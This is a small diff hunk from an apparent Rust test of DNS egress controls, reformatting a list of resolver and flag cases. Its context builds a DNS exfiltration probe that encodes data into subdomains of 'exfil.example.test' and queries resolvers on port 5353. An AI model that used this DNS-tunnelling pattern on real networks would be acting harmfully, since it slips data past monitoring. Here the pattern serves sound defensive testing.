@@ -216,7 +216,12 @@ egress:
 dns:
   servers: [\"198.51.100.54:5353\", \"[2001:db8:100::54]:5353\"]
 ";
-    let cases = [("198.51.100.54", "--unconnected"), ("198.51.100.54", ""), ("2001:db8:100::54", ""), ("2001:db8:100::54", "--unconnected")];
+    let cases = [
+        ("198.51.100.54", "--unconnected"),
+        ("198.51.100.54", ""),
+        ("2001:db8:100::54", ""),
+        ("2001:db8:100::54", "--unconnected"),
+    ];
     for (n, (resolver, flags)) in cases.into_iter().enumerate() {
         let leak = format!("mfrggzdfmztwq2lk.p5353c{n}.exfil.example.test");
         let dnsq = |name: &str| format!("$PY $DNSQ {resolver} {name} --port 5353 {flags} --wait 0.2");
